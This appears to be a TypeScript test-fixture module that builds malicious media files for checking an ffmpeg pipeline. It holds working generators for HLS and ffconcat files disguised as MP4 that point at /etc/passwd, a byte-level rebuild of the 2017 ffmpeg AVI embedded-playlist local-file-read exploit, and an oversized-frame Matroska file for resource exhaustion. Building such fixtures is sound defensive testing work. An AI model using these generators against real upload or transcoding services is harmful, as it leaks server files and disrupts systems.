import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { ffmpeg } from './ffmpeg-run';

/** Inputs that try to make ffmpeg read other files or allocate absurdly; each lies about what it is. */

/** An HLS playlist named like a video: it points ffmpeg at a local file. */
export async function makeHlsDisguisedAsMp4(dir: string, { target = '/etc/passwd', name = 'playlist.mp4' } = {}): Promise<string> {
  const playlist = ['#EXTM3U', '#EXT-X-TARGETDURATION:10', '#EXT-X-MEDIA-SEQUENCE:0', '#EXTINF:10.0,', `file://${target}`, '#EXT-X-ENDLIST', ''].join('\n');
  return write(dir, name, Buffer.from(playlist));
}

/** An ffconcat script named like a video: it lists a local file as the "next part". */
export async function makeFfconcatDisguisedAsMp4(dir: string, { target = '/etc/passwd', name = 'concat.mp4' } = {}): Promise<string> {
  return write(dir, name, Buffer.from(`ffconcat version 1.0\nfile '${target}'\n`));
}

/**
 * The AVI-with-embedded-playlist trick (the 2017 ffmpeg SSRF / local file read): a valid AVI whose
 * only stream is a "text" stream; its first chunk is a GAB2 subtitle packet whose payload is an HLS
 * playlist naming `target`. A vulnerable ffmpeg probes the payload, opens the hls demuxer inside the
 * AVI and reads the file into the output; dummy video chunks follow so the demuxer keeps reading.
 */
export async function makeAviWithEmbeddedPlaylist(dir: string, { target = '/etc/passwd', name = 'trick.avi' } = {}): Promise<string> {
  const playlist = ['#EXTM3U', '#EXT-X-MEDIA-SEQUENCE:0', '#EXTINF:1.0,', `file://${target}`, '#EXTINF:1.0,', target, '#EXT-X-ENDLIST'].join('\n');
  // GAB2 subtitle header: magic, version 2, then a (zeroed) name block before the payload.
  const gab2 = Buffer.concat([Buffer.from('GAB2\0', 'latin1'), Buffer.from([0x02, 0x00]), Buffer.alloc(10), Buffer.from(playlist, 'latin1')]);
  const dummyFrames = Array.from({ length: 50 }, () => riff('00dc', Buffer.alloc(200)));
  const movi = list('movi', [riff('00tx', gab2), ...dummyFrames]);

  const avih = Buffer.alloc(56);
  avih.writeUInt32LE(40_000, 0); // microseconds per frame (25 fps)
  avih.writeUInt32LE(0x10, 12); // AVIF_HASINDEX cleared, TRUSTCKTYPE-style flag as the original exploit
  avih.writeUInt32LE(125, 16); // total frames
  avih.writeUInt32LE(1, 24); // streams
  avih.writeUInt32LE(224, 32); // width
  avih.writeUInt32LE(160, 36); // height

  const strh = Buffer.alloc(56);
  strh.write('txts', 0, 'latin1'); // a text (subtitle) stream: where avidec looks for GAB2
  strh.writeUInt32LE(1, 20); // scale
  strh.writeUInt32LE(25, 24); // rate
  strh.writeUInt32LE(125, 32); // length
  const strf = Buffer.alloc(40); // BITMAPINFOHEADER, as in the published exploit
  strf.writeUInt32LE(40, 0);
  strf.writeInt32LE(224, 4);
  strf.writeInt32LE(160, 8);
  strf.writeUInt16LE(1, 12);
  strf.writeUInt16LE(24, 14);
  strf.write('XVID', 16, 'latin1');

  const hdrl = list('hdrl', [riff('avih', avih), list('strl', [riff('strh', strh), riff('strf', strf)])]);
  const body = Buffer.concat([Buffer.from('AVI ', 'latin1'), hdrl, movi]);
  const header = Buffer.alloc(8);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(body.length, 4);
  return write(dir, name, Buffer.concat([header, body]));
}

/**
 * A Matroska video whose header declares a `side`×`side` frame (30000² = 900 megapixels): made from a
 * real 320×256 raw-video file by rewriting the PixelWidth/PixelHeight elements in place.
 */
export async function makeHugeFrameVideo(dir: string, { side = 30_000, name = 'huge-frame.mkv' } = {}): Promise<string> {
  const small = path.join(dir, `small-${name}`);
  await ffmpeg(['-f', 'lavfi', '-i', 'testsrc2=size=320x256:rate=5', '-frames:v', '5', '-c:v', 'rawvideo', '-pix_fmt', 'yuv420p', small]);
  const bytes = await readFile(small);
  const side16 = [(side >> 8) & 0xff, side & 0xff];
  // EBML: id 0xB0 (PixelWidth) / 0xBA (PixelHeight), size 0x82 (2 bytes), big-endian value.
  replaceOnce(bytes, [0xb0, 0x82, 0x01, 0x40], [0xb0, 0x82, ...side16]);
  replaceOnce(bytes, [0xba, 0x82, 0x01, 0x00], [0xba, 0x82, ...side16]);
  return write(dir, name, bytes);
}

function replaceOnce(bytes: Buffer, from: number[], to: number[]): void {
  const at = bytes.indexOf(Buffer.from(from));
  if (at < 0) throw new Error(`pattern ${Buffer.from(from).toString('hex')} not found`);
  bytes.set(to, at);
}

function riff(id: string, data: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.write(id, 0, 'latin1');
  header.writeUInt32LE(data.length, 4);
  return Buffer.concat([header, data, data.length % 2 === 1 ? Buffer.alloc(1) : Buffer.alloc(0)]);
}

function list(type: string, children: Buffer[]): Buffer {
  return riff('LIST', Buffer.concat([Buffer.from(type, 'latin1'), ...children]));
}

async function write(dir: string, name: string, bytes: Buffer): Promise<string> {
  const file = path.join(dir, name);
  await writeFile(file, bytes);
  return file;
}
